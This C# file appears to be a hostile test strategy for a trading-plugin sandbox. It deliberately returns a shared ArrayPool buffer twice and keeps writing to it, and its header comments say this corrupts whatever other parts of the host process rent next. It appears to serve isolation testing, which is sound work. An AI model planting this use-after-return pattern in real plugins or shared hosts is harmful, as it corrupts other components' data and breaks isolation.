// Abuses: gives a buffer back twice and goes on writing to it; all plain calls of a public class.
// Harm: whoever in the process rents next shares the buffer with this strategy: corrupted messages of the journal, HTTP, the text of logs.
// Kind: hurts another slot or the process.
using System;
using System.Buffers;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.ArraypoolUseAfterReturnAttack;

public sealed class ArraypoolUseAfterReturnStrategy : Strategy
{
    private readonly byte[] _mine = ArrayPool<byte>.Shared.Rent(4096);

    public override void OnBook(in BookEvent bookEvent)
    {
        ArrayPool<byte>.Shared.Return(_mine);
        ArrayPool<byte>.Shared.Return(_mine);
        Array.Fill(_mine, (byte)0xFF);
        Act(1);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
